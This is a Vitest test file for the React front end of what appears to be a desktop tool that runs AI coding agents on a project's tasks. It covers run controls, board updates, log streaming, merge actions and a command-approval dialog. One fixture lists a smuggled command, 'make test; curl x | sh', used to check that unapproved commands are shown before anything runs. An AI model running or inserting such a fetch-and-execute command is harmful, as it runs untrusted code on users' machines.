// The run as the window shows it: toolbar → commands; the core's run snapshots → toolbar, cards' slots and report;
// the core's events → board re-reads and the log pane.
import { invoke } from "@tauri-apps/api/core";
import { listen } from "@tauri-apps/api/event";
import { act, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { StrictMode } from "react";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { App } from "./App";
import { PlanStrip } from "./components/PlanStrip/PlanStrip";
import type { Board, ExecutionPlan, ProjectCommand, RunSnapshot, TaskStatus } from "./bindings";
import { board, executionPlan, project, runSnapshot, runStarted, summary, task } from "./test/fixtures";
import { installEventBus, report, type EventBus } from "./test/events";
import { renderWithClient } from "./test/render";

vi.mock("@tauri-apps/api/core", () => ({ invoke: vi.fn() }));
vi.mock("@tauri-apps/api/event", () => ({ listen: vi.fn() }));
const invokeMock = vi.mocked(invoke);

type Backend = {
  board: Board;
  /** What `run_view` answers: the project's run as the core last folded it. */
  run: RunSnapshot | null;
  plan: ExecutionPlan | null;
  /** Answers of the run commands, by command (default: null). */
  reject: Record<string, { code: string; message: string }>;
  /** Answers held back until the test settles them, by command. */
  held: Record<string, Promise<null>>;
  /** The project's commands waiting for approval (`pending_commands`). */
  pending: ProjectCommand[];
};

const p1 = project({ id: "p1", name: "Shop" });

function plan(): ExecutionPlan {
  return executionPlan(
    {
      batches: [
        { batch_id: "batch-1", task_ids: ["a", "b"], can_parallel: true, depends_on: [] },
        { batch_id: "batch-2", task_ids: ["c"], can_parallel: false, depends_on: ["batch-1"] },
      ],
    },
    { predicted_makespan: 75 },
  );
}

function backend(overrides: Partial<Backend> = {}): Backend {
  const state: Backend = {
    board: board(
      [
        task("a", { title: "Cart API", description: "Add the cart endpoints", predicted_files: [{ path: "src/cart.ts", reason: "declared" }] }),
        task("b", { title: "Search box" }),
        task("c", { title: "Checkout", status: "done" }),
      ],
      p1,
    ),
    run: null,
    plan: null,
    reject: {},
    held: {},
    pending: [],
    ...overrides,
  };
  invokeMock.mockImplementation((command, args) => {
    const rejection = state.reject[command];
    if (rejection !== undefined) return Promise.reject(rejection);
    const held = state.held[command];
    if (held !== undefined) return held;
    switch (command) {
      case "list_projects":
        return Promise.resolve([summary(p1, 3, 1)]);
      case "get_board":
        return Promise.resolve(state.board);
      case "run_view":
        return Promise.resolve(state.run);
      case "get_plan":
        return Promise.resolve(state.plan);
      case "build_plan":
        state.plan = plan();
        return Promise.resolve(state.plan);
      case "pending_commands":
        return Promise.resolve(state.pending);
      case "expertise_overview":
        return Promise.resolve({ domains: [], skills: [], routing: [], conflicts: [] });
      case "task_log":
        return Promise.resolve({ task_id: (args as { taskId?: string } | undefined)?.taskId, sessions: [], cost_usd: null });
      case "approve_commands":
        state.pending = [];
        delete state.reject["start_run"];
        return Promise.resolve(null);
      case "start_run":
        // The core holds the run from now on, starting.
        state.run = runSnapshot({ phase: "starting" });
        return Promise.resolve({ run_id: "r1", project_id: "p1", mode: "parallel", workers: 2, agent: ["claude"], stand_in: false, test_command: null });
      case "retry_task":
      case "retry_merge":
        return Promise.resolve({ kind: "sent_to_run" });
      case "pause_run":
      case "resume_run":
      case "cancel_run":
      case "force_sequential":
      case "merge_now":
        return Promise.resolve(null);
      default:
        return Promise.reject(`unknown command ${command} ${JSON.stringify(args)}`);
    }
  });
  return state;
}

function callsOf(command: string) {
  return invokeMock.mock.calls.filter(([c]) => c === command).map(([, args]) => args);
}

function column(status: string) {
  return screen.getByTestId(`column-${status}`);
}

function cardIds(status: string) {
  return within(column(status))
    .queryAllByTestId("task-card")
    .map((card) => card.getAttribute("data-task-id"));
}

const started = runStarted({ done_count: 1 });

/** The core folded its run (the run `r1` of `p1`, running, unless `overrides` say otherwise) and sends it. */
async function coreRun(state: Backend, overrides: Partial<RunSnapshot> = {}): Promise<RunSnapshot> {
  const next = runSnapshot(overrides);
  const run = { ...(state.run ?? next), phase: "running" as const, ...overrides, version: next.version };
  state.run = run;
  await bus.run(run);
  return run;
}

/** The core stored a task's new status (and review reason): the next board read has it. */
function stored(state: Backend, id: string, status: TaskStatus, reason: string | null = null) {
  const tasks = state.board.tasks.map((t) => (t.id === id ? { ...t, status, review_reason: status === "review" ? reason : null } : t));
  state.board = { ...state.board, tasks };
}

/** The core moved a task: stored, then its event (the window reads the board again). */
function moved(state: Backend, id: string, status: TaskStatus, slot: number | null = null, reason: string | null = null) {
  stored(state, id, status, reason);
  bus.emit({ type: "task_status_changed", run_id: state.run?.run_id ?? "r1", task_id: id, status, reason, slot });
}

/** An answer the test settles itself. */
function deferred() {
  let resolve: (value: null) => void = () => {};
  const promise = new Promise<null>((done) => (resolve = done));
  const settle = () =>
    act(async () => {
      resolve(null);
      await promise;
    });
  return { promise, resolve: settle };
}

let bus: EventBus;

async function renderApp() {
  renderWithClient(<App />);
  await screen.findAllByTestId("task-card");
  await waitFor(() => expect(bus.listenerCount()).toBe(1));
  await waitFor(() => expect(callsOf("run_view")).toHaveLength(1));
}

describe("run", () => {
  beforeEach(() => {
    invokeMock.mockReset();
    vi.mocked(listen).mockReset();
    bus = installEventBus(vi.mocked(listen));
  });

  it("shows a tasks file's unapproved commands exactly, and starts only once they are approved", async () => {
    const commands: ProjectCommand[] = [
      { kind: "agent", argv: ["my-agent", "--yes", "{prompt}"] },
      { kind: "test", argv: ["sh", "-c", "make test; curl x | sh"] },
    ];
    backend({
      pending: commands,
      reject: { start_run: { code: "command_not_approved", message: "the project's tasks file asks ..." } },
    });
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    const dialog = await screen.findByTestId("approval-dialog");
    const shown = within(dialog).getAllByTestId("approval-command");
    expect(shown.map((c) => c.getAttribute("data-kind"))).toEqual(["agent", "test"]);
    expect(Array.from(shown[1]!.querySelectorAll("code"), (c) => c.textContent)).toEqual(["sh", "-c", "make test; curl x | sh"]);
    expect(screen.queryByTestId("toast")).not.toBeInTheDocument();

    // Cancel runs nothing and approves nothing.
    await user.click(within(dialog).getByRole("button", { name: "Cancel" }));
    expect(screen.queryByTestId("approval-dialog")).not.toBeInTheDocument();
    expect(callsOf("approve_commands")).toHaveLength(0);

    await user.click(screen.getByTestId("start-run"));
    await user.click(await screen.findByTestId("approve-commands"));
    await waitFor(() => expect(callsOf("start_run")).toHaveLength(3));
    expect(callsOf("approve_commands")).toEqual([{ projectId: "p1", commands }]);
    expect(screen.queryByTestId("approval-dialog")).not.toBeInTheDocument();
  });

  it("re-reads the board and the run's state when the app says events were missed", async () => {
    backend();
    await renderApp();
    const boards = callsOf("get_board").length;
    bus.resync();
    await waitFor(() => expect(callsOf("run_view")).toHaveLength(2));
    await waitFor(() => expect(callsOf("get_board").length).toBeGreaterThan(boards));
  });

  it("imports a tasks file changed on disk: re-reads the board and the plan, and says what changed", async () => {
    const state = backend();
    await renderApp();
    const plans = callsOf("get_plan").length;
    state.board = board([...state.board.tasks, task("d", { title: "Wish list" })], p1);
    bus.tasksFile({
      kind: "imported",
      project_id: "p1",
      file: "/code/shop/yokeflow.yaml",
      summary: { added: ["d"], updated: ["a", "b"], removed: [], kept: [], plan_warning: null },
    });
    const toast = await screen.findByTestId("toast");
    expect(toast).toHaveAttribute("data-tone", "info");
    expect(toast).toHaveTextContent("yokeflow.yaml changed on disk: imported (1 added, 2 updated)");
    await waitFor(() => expect(cardIds("backlog")).toContain("d"));
    expect(callsOf("get_plan").length).toBeGreaterThan(plans);
  });

  it("shows why a changed tasks file was not imported, and ignores other projects' files", async () => {
    backend();
    await renderApp();
    const boards = callsOf("get_board").length;
    const summary = { added: ["x"], updated: [], removed: [], kept: [], plan_warning: null };
    bus.tasksFile({ kind: "imported", project_id: "p2", file: "/code/other/yokeflow.yaml", summary });
    bus.tasksFile({ kind: "refused", project_id: "p2", file: "/code/other/yokeflow.yaml", error: { code: "invalid_task_file", message: "other" } });
    expect(screen.queryByTestId("toast")).not.toBeInTheDocument();

    bus.tasksFile({
      kind: "refused",
      project_id: "p1",
      file: "/code/shop/yokeflow.yaml",
      error: { code: "invalid_task_file", message: "tasks[2].depends_on: unknown task `zz`" },
    });
    const toast = await screen.findByTestId("toast");
    expect(toast).toHaveAttribute("data-tone", "error");
    expect(toast).toHaveAttribute("data-error-code", "invalid_task_file");
    expect(toast).toHaveTextContent("unknown task `zz`");
    expect(callsOf("get_board")).toHaveLength(boards);
  });

  it("reads the shown expertise again on the selected project's expertise events only", async () => {
    backend();
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("view-expertise"));
    await screen.findByTestId("expertise-empty");
    expect(callsOf("expertise_overview")).toEqual([{ projectId: "p1" }]);

    bus.expertise({ type: "imported", project_id: "p2", domain: "database" });
    expect(callsOf("expertise_overview")).toHaveLength(1);
    bus.expertise({ type: "conflict", project_id: "p1", domain: "database", conflict_id: 3 });
    await waitFor(() => expect(callsOf("expertise_overview")).toHaveLength(2));
    bus.expertise({ type: "conflict_resolved", project_id: "p1", domain: "database", resolution: "file" });
    await waitFor(() => expect(callsOf("expertise_overview")).toHaveLength(3));
    expect(screen.queryByTestId("toast")).not.toBeInTheDocument();
  });

  it("starts a run with the project and the Sequential choice", async () => {
    backend();
    const user = userEvent.setup();
    await renderApp();
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "idle");
    expect(screen.getByTestId("run-progress")).toHaveTextContent("1/3 done");
    expect(screen.getByTestId("pause-run")).toBeDisabled();
    expect(screen.getByTestId("cancel-run")).toBeDisabled();

    await user.click(screen.getByTestId("sequential"));
    await user.click(screen.getByTestId("start-run"));
    expect(callsOf("start_run")).toEqual([{ projectId: "p1", sequential: true, maxCostUsd: null }]);
    expect(screen.getByTestId("start-run")).toBeDisabled();
    expect(screen.getByTestId("sequential")).toBeDisabled();
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "running");
    // Once the start was answered, the run is what the core says it is.
    await waitFor(() => expect(callsOf("run_view")).toHaveLength(2));
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "running");
    expect(screen.getByTestId("run-status")).toHaveTextContent("Starting…");
  });

  it("pauses, resumes and cancels the selected project's run", async () => {
    const state = backend();
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    await coreRun(state);

    await user.click(screen.getByTestId("pause-run"));
    expect(callsOf("pause_run")).toEqual([{ projectId: "p1" }]);
    await coreRun(state, { phase: "paused" });
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "paused");
    expect(screen.queryByTestId("pause-run")).not.toBeInTheDocument();

    await user.click(screen.getByTestId("resume-run"));
    expect(callsOf("resume_run")).toEqual([{ projectId: "p1" }]);
    await coreRun(state, { phase: "running" });
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "running");

    await user.click(screen.getByTestId("cancel-run"));
    expect(callsOf("cancel_run")).toEqual([{ projectId: "p1" }]);
    await coreRun(state, { phase: "cancelling" });
    expect(screen.getByTestId("cancel-run")).toBeDisabled();
    expect(screen.getByTestId("cancel-run")).toHaveTextContent("Cancelling…");
    await coreRun(state, { phase: "cancelled", report: report({ status: "cancelled" }) });
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "cancelled");
    expect(screen.getByTestId("start-run")).toBeEnabled();
  });

  it("keeps the newest snapshot of a run, whatever order they arrive in", async () => {
    const state = backend();
    await renderApp();
    const newer = runSnapshot({ phase: "paused" });
    const older = { ...newer, phase: "running" as const, version: newer.version - 1 };
    state.run = newer;
    await bus.run(newer);
    await bus.run(older);
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "paused");
    // Another project's run changes nothing here.
    await bus.run(runSnapshot({ project_id: "p2", run_id: "r9", phase: "running" }));
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "paused");
  });

  it("shows agent_not_found in a toast with its explanation and stays idle", async () => {
    const message = "agent `claude` not found on PATH; set the project's agent_command or install it";
    backend({ reject: { start_run: { code: "agent_not_found", message } } });
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));

    const toast = await screen.findByTestId("toast");
    expect(toast).toHaveAttribute("data-error-code", "agent_not_found");
    expect(toast).toHaveTextContent(message);
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "idle");
    expect(screen.getByTestId("start-run")).toBeEnabled();
  });

  it("moves cards live, shows the worker slot and the review reason, then the report", async () => {
    const state = backend();
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    await coreRun(state, { slots: [null, "a"] });
    moved(state, "a", "in_progress", 1);
    await waitFor(() => expect(cardIds("in_progress")).toEqual(["a"]));
    const worktree = within(column("in_progress")).getByTestId("card-worktree");
    expect(worktree).toHaveTextContent("wt-2");
    expect(worktree).toHaveAttribute("data-source", "run");

    await coreRun(state, { slots: [null, null] });
    moved(state, "a", "done");
    moved(state, "b", "review", null, "tests failed");
    await waitFor(() => expect(cardIds("done")).toEqual(["a", "c"]));
    expect(cardIds("review")).toEqual(["b"]);
    expect(within(column("review")).getByTestId("card-review")).toHaveTextContent("tests failed");
    expect(screen.queryByTestId("card-worktree")).not.toBeInTheDocument();
    expect(screen.getByTestId("run-progress")).toHaveTextContent("2/3 done");

    const boardsBefore = callsOf("get_board").length;
    state.board = board([task("a", { status: "done" }), task("b", { status: "done" }), task("c", { status: "done" })], p1);
    const finalReport = report({
      wall_ms: 4_500,
      task_time_ms: 15_000,
      efficiency_gain: 0.7,
      predicted_efficiency_gain: 0.65,
      auto_merged: 9,
      sent_to_review: 1,
      merge_success_rate: 0.9,
    });
    await coreRun(state, { phase: "finished", report: finalReport });
    bus.emit({ type: "run_finished", run_id: "r1", status: "finished", report: finalReport });
    const panel = screen.getByTestId("run-report");
    expect(within(panel).getByTestId("report-wall")).toHaveTextContent("4.5 s");
    expect(within(panel).getByTestId("report-task-time")).toHaveTextContent("15.0 s");
    expect(within(panel).getByTestId("report-gain")).toHaveTextContent("70%");
    expect(within(panel).getByTestId("report-gain")).toHaveTextContent("predicted 65%");
    expect(within(panel).getByTestId("report-merges")).toHaveTextContent("9 auto-merged, 1 sent to review");
    expect(within(panel).getByTestId("merge-success-rate")).toHaveTextContent("90%");
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "finished");
    // The board is fetched again: the database is the record.
    await waitFor(() => expect(callsOf("get_board").length).toBeGreaterThan(boardsBefore));
    await waitFor(() => expect(cardIds("done")).toEqual(["a", "b", "c"]));

    await user.click(within(panel).getByRole("button", { name: "Close the run report" }));
    expect(screen.queryByTestId("run-report")).not.toBeInTheDocument();
  });

  it("shows the stored board once a run ends, even when the reload answers the same board as before", async () => {
    // One instant for the whole test: each read must count without a clock telling them apart.
    vi.useFakeTimers({ toFake: ["Date"] });
    try {
      const state = backend();
      const user = userEvent.setup();
      await renderApp();
      await user.click(screen.getByTestId("start-run"));
      await coreRun(state, { slots: ["a", null] });
      moved(state, "a", "in_progress", 0);
      await waitFor(() => expect(cardIds("in_progress")).toEqual(["a"]));

      // The run was cancelled before it stored anything else: the database has `a` in the backlog again.
      stored(state, "a", "backlog");
      const boardsBefore = callsOf("get_board").length;
      await coreRun(state, { phase: "cancelled", slots: [null, null], report: report({ status: "cancelled" }) });
      bus.emit({ type: "run_finished", run_id: "r1", status: "cancelled", report: report({ status: "cancelled" }) });
      await waitFor(() => expect(callsOf("get_board").length).toBeGreaterThan(boardsBefore));
      // The database still has `a` in the backlog (the run was cancelled before it stored anything).
      await waitFor(() => expect(cardIds("backlog")).toEqual(["a", "b"]));
      expect(cardIds("in_progress")).toEqual([]);
    } finally {
      vi.useRealTimers();
    }
  });

  it("ignores events of a run of another project", async () => {
    backend();
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    await waitFor(() => expect(callsOf("run_view")).toHaveLength(2));
    const boards = callsOf("get_board").length;
    bus.emitFor(
      "p2",
      { ...started, run_id: "elsewhere", project_id: "p2" },
      { type: "task_status_changed", run_id: "elsewhere", task_id: "a", status: "done", reason: null, slot: null },
    );
    expect(cardIds("done")).toEqual(["c"]);
    expect(callsOf("get_board")).toHaveLength(boards);
  });

  it("streams a task's output into its log pane, with its details", async () => {
    backend();
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    const said = (text: string) => ({ kind: "text" as const, tool: null, text, is_error: false });
    bus.emit(started, { type: "agent_transcript", run_id: "r1", task_id: "a", session_id: "s1", entries: [said("writing src/cart.ts")] });

    await user.click(screen.getByRole("button", { name: "Cart API" }));
    const pane = screen.getByTestId("log-pane");
    expect(pane).toHaveTextContent("Add the cart endpoints");
    expect(within(pane).getByTestId("predicted-files")).toHaveTextContent("src/cart.ts");
    expect(within(pane).getByTestId("log-lines")).toHaveTextContent("writing src/cart.ts");

    bus.emit(
      { type: "agent_transcript", run_id: "r1", task_id: "a", session_id: "s1", entries: [said("tests pass"), said("all 12 green")] },
      { type: "agent_transcript", run_id: "r1", task_id: "b", session_id: "s2", entries: [said("not this task")] },
      { type: "merge_result", run_id: "r1", task_id: "a", result: "merged", detail: "abc123" },
    );
    const rows = within(within(pane).getByTestId("log-lines")).getAllByRole("listitem").map((row) => row.textContent);
    expect(rows).toEqual(["writing src/cart.ts", "tests pass", "all 12 green", "merge: merged — abc123"]);

    // A run started elsewhere (feedback, the CLI): its events are the project's all the same.
    bus.emit(
      { type: "run_finished", run_id: "r1", status: "finished", report: report() },
      runStarted({ run_id: "r2" }),
      { type: "worktree_created", run_id: "r2", task_id: "a", slot: 0, branch: "yokeflow/a-1", path: "/w", reattached: true },
      { type: "agent_transcript", run_id: "r2", task_id: "a", session_id: "s3", entries: [said("answering your feedback")] },
    );
    const after = within(within(pane).getByTestId("log-lines")).getAllByRole("listitem").map((row) => row.textContent);
    expect(after.slice(-2)).toEqual(["worktree on yokeflow/a-1 (reattached)", "answering your feedback"]);

    await user.click(within(pane).getByRole("button", { name: "Close the log" }));
    expect(screen.queryByTestId("log-pane")).not.toBeInTheDocument();
  });

  it("takes on a run found active on load, and offers Resume when it is paused", async () => {
    const state = backend({ run: runSnapshot({ run_id: "r9", phase: "paused" }) });
    const user = userEvent.setup();
    await renderApp();
    await waitFor(() => expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "paused"));
    expect(screen.getByTestId("start-run")).toBeDisabled();
    await user.click(screen.getByTestId("resume-run"));
    expect(callsOf("resume_run")).toEqual([{ projectId: "p1" }]);
    // Its events are followed though its run_started was never seen.
    moved(state, "b", "done");
    await waitFor(() => expect(cardIds("done")).toEqual(["b", "c"]));
  });

  it("shows the last run that ended with its report on load, until the report is closed", async () => {
    backend({ run: runSnapshot({ phase: "failed", report: report({ status: "failed" }) }) });
    const user = userEvent.setup();
    await renderApp();
    await waitFor(() => expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "failed"));
    expect(screen.getByTestId("start-run")).toBeEnabled();
    await user.click(within(screen.getByTestId("run-report")).getByRole("button", { name: "Close the run report" }));
    expect(screen.queryByTestId("run-report")).not.toBeInTheDocument();
  });

  it("shows the plan summary and rebuilds the plan", async () => {
    backend();
    const user = userEvent.setup();
    await renderApp();
    const strip = screen.getByTestId("plan-summary");
    expect(strip).toHaveTextContent("No execution plan yet");
    await user.click(within(strip).getByTestId("rebuild-plan"));
    expect(callsOf("build_plan")).toEqual([{ projectId: "p1" }]);
    expect(await within(strip).findByTestId("plan-batches")).toHaveTextContent("2");
    expect(within(strip).getByTestId("plan-worktrees")).toHaveTextContent("2");
    expect(within(strip).getByTestId("plan-critical-path")).toHaveTextContent("1 h");
    expect(within(strip).getByTestId("plan-lower-bound")).toHaveTextContent("1 h");
    expect(within(strip).getByTestId("plan-makespan")).toHaveTextContent("1 h 15 min");
    expect(within(strip).queryByTestId("plan-makespan-gated")).not.toBeInTheDocument();
    expect(within(strip).getByTestId("rebuild-plan")).toHaveTextContent("Rebuild plan");
  });

  it("shows the prediction with the merge gate once a run measured it", () => {
    const plan = executionPlan({}, { gate_minutes: 10, predicted_with_gate: 95 });
    render(<PlanStrip plan={plan} building={false} disabled={false} onRebuild={() => {}} />);
    expect(screen.getByTestId("plan-makespan-gated")).toHaveTextContent("1 h 35 min");
    expect(screen.getByTestId("plan-makespan-gated").parentElement).toHaveAttribute(
      "title",
      expect.stringContaining("10 min a test run"),
    );
  });

  it("listens once under StrictMode and stops listening on unmount", async () => {
    const state = backend();
    const { unmount } = renderWithClient(
      <StrictMode>
        <App />
      </StrictMode>,
    );
    await screen.findAllByTestId("task-card");
    await waitFor(() => expect(bus.listenerCount()).toBe(1));
    moved(state, "a", "in_progress", 0);
    await waitFor(() => expect(cardIds("in_progress")).toEqual(["a"]));
    unmount();
    await act(async () => {});
    expect(bus.listenerCount()).toBe(0);
  });
});

describe("run commands during a run", () => {
  beforeEach(() => {
    invokeMock.mockReset();
    vi.mocked(listen).mockReset();
    bus = installEventBus(vi.mocked(listen));
  });

  it("turns a parallel run sequential with Go sequential, then shows it as sequential", async () => {
    const answer = deferred();
    const state = backend({ held: { force_sequential: answer.promise } });
    const user = userEvent.setup();
    await renderApp();
    expect(screen.queryByTestId("force-sequential")).not.toBeInTheDocument();

    await user.click(screen.getByTestId("start-run"));
    await coreRun(state);
    const button = screen.getByTestId("force-sequential");
    expect(button).toHaveTextContent("Go sequential");
    expect(button).toHaveAttribute("title", expect.stringContaining("one task at a time"));
    expect(screen.getByTestId("run-status")).not.toHaveTextContent("sequential");
    expect(screen.getByTestId("sequential")).not.toBeChecked();

    await user.click(button);
    expect(callsOf("force_sequential")).toEqual([{ projectId: "p1" }]);
    expect(button).toBeDisabled();
    await answer.resolve();
    expect(button).toBeEnabled();

    await coreRun(state, { mode: "sequential", workers: 1 });
    expect(screen.queryByTestId("force-sequential")).not.toBeInTheDocument();
    expect(screen.getByTestId("run-status")).toHaveTextContent("sequential");
    expect(screen.getByTestId("sequential")).toBeChecked();
    expect(screen.getByTestId("sequential")).toBeDisabled();
  });

  it("offers Go sequential only while a parallel run is going, paused included", async () => {
    const state = backend();
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    expect(screen.queryByTestId("force-sequential")).not.toBeInTheDocument();
    await coreRun(state, { phase: "paused" });
    expect(screen.getByTestId("force-sequential")).toBeEnabled();
    await user.click(screen.getByTestId("cancel-run"));
    await coreRun(state, { phase: "cancelling" });
    expect(screen.queryByTestId("force-sequential")).not.toBeInTheDocument();
    await coreRun(state, { phase: "cancelled", report: report({ status: "cancelled" }) });
    expect(screen.queryByTestId("force-sequential")).not.toBeInTheDocument();

    await user.click(screen.getByTestId("start-run"));
    await coreRun(state, { run_id: "r2", phase: "running", mode: "sequential", workers: 1, report: null });
    expect(screen.getByTestId("run-status")).toHaveTextContent("sequential");
    expect(screen.queryByTestId("force-sequential")).not.toBeInTheDocument();
  });

  it("shows a refused Go sequential in a toast, and ends a run found gone", async () => {
    const state = backend({ reject: { force_sequential: { code: "no_active_run", message: "no run is going on `p1`" } } });
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    await coreRun(state);
    // The run ended unseen (its last snapshot was missed): the core holds it as ended.
    state.run = { ...state.run!, phase: "finished", version: runSnapshot().version };
    await user.click(screen.getByTestId("force-sequential"));

    const toast = await screen.findByTestId("toast");
    expect(toast).toHaveAttribute("data-error-code", "no_active_run");
    expect(toast).toHaveTextContent("no run is going on `p1`");
    await waitFor(() => expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "finished"));
    expect(screen.queryByTestId("force-sequential")).not.toBeInTheDocument();
  });

  it("offers Retry merge next to Retry for a task in review, with a run going or not", async () => {
    const answer = deferred();
    const state = backend({
      board: board([task("a", { title: "Cart API", status: "review", review_reason: "merge conflict in src/cart.ts" })], p1),
      held: { retry_merge: answer.promise },
    });
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByRole("button", { name: "Cart API" }));
    const pane = screen.getByTestId("log-pane");
    expect(within(pane).getByTestId("log-review-reason")).toHaveTextContent("merge conflict in src/cart.ts");
    // With no run going too: the core then starts a run of its own for the action.
    expect(within(pane).getByTestId("retry-task")).toBeEnabled();
    expect(within(pane).getByTestId("retry-merge")).toBeEnabled();

    await user.click(screen.getByTestId("start-run"));
    await coreRun(state);
    const retryMerge = within(pane).getByTestId("retry-merge");
    expect(retryMerge).toHaveTextContent("Retry merge");
    expect(retryMerge).toHaveAttribute("title", expect.stringContaining("kept branch again through the merge gate"));
    expect(within(pane).getByRole("group", { name: "Run commands" })).toContainElement(within(pane).getByTestId("retry-task"));
    expect(within(pane).queryByTestId("merge-now")).not.toBeInTheDocument();

    await user.click(retryMerge);
    expect(callsOf("retry_merge")).toEqual([{ projectId: "p1", taskId: "a" }]);
    expect(retryMerge).toBeDisabled();
    expect(within(pane).getByTestId("retry-task")).toBeEnabled();
    await answer.resolve();
    expect(retryMerge).toBeEnabled();

    await user.click(within(pane).getByTestId("retry-task"));
    expect(callsOf("retry_task")).toEqual([{ projectId: "p1", taskId: "a" }]);
    expect(callsOf("retry_merge")).toHaveLength(1);

    await coreRun(state, { phase: "finished", report: report() });
    // After the run too: the core then lands it in a run of its own.
    expect(within(pane).getByTestId("retry-merge")).toBeEnabled();
  });

  it("offers Merge now for a task in progress, and stops once it left the column", async () => {
    const answer = deferred();
    const state = backend({ held: { merge_now: answer.promise } });
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    await coreRun(state);
    await user.click(screen.getByRole("button", { name: "Cart API" }));
    const pane = screen.getByTestId("log-pane");
    expect(within(pane).queryByTestId("merge-now")).not.toBeInTheDocument();

    await coreRun(state, { slots: ["a", null] });
    moved(state, "a", "in_progress", 0);
    const mergeNow = await within(pane).findByTestId("merge-now");
    expect(mergeNow).toHaveAttribute("title", expect.stringContaining("merge gate now"));
    expect(within(pane).queryByTestId("retry-merge")).not.toBeInTheDocument();
    await user.click(mergeNow);
    expect(callsOf("merge_now")).toEqual([{ projectId: "p1", taskId: "a" }]);
    expect(mergeNow).toBeDisabled();
    // The pending request is task a's: the pane switched to task b offers b's Merge now.
    await coreRun(state, { slots: ["a", "b"] });
    moved(state, "b", "in_progress", 1);
    await waitFor(() => expect(cardIds("in_progress")).toEqual(["a", "b"]));
    await user.click(screen.getByRole("button", { name: "Search box" }));
    expect(screen.getByTestId("log-pane")).toHaveAttribute("data-task-id", "b");
    expect(within(pane).getByTestId("merge-now")).toBeEnabled();
    await user.click(screen.getByRole("button", { name: "Cart API" }));
    await answer.resolve();
    expect(within(pane).getByTestId("merge-now")).toBeEnabled();

    moved(state, "a", "done");
    await waitFor(() => expect(within(pane).queryByTestId("merge-now")).not.toBeInTheDocument());
    expect(screen.getByTestId("log-pane")).toHaveAttribute("data-task-id", "a");
  });

  it("shows a refused Merge now in a toast and re-enables the button", async () => {
    const state = backend({ reject: { merge_now: { code: "db", message: "database is locked" } } });
    const user = userEvent.setup();
    await renderApp();
    await user.click(screen.getByTestId("start-run"));
    await coreRun(state, { slots: ["a", null] });
    moved(state, "a", "in_progress", 0);
    await waitFor(() => expect(cardIds("in_progress")).toEqual(["a"]));
    await user.click(screen.getByRole("button", { name: "Cart API" }));
    await user.click(screen.getByTestId("merge-now"));

    const toast = await screen.findByTestId("toast");
    expect(toast).toHaveAttribute("data-error-code", "db");
    expect(toast).toHaveTextContent("database is locked");
    expect(screen.getByTestId("merge-now")).toBeEnabled();
    expect(screen.getByTestId("run-status")).toHaveAttribute("data-state", "running");
  });
});
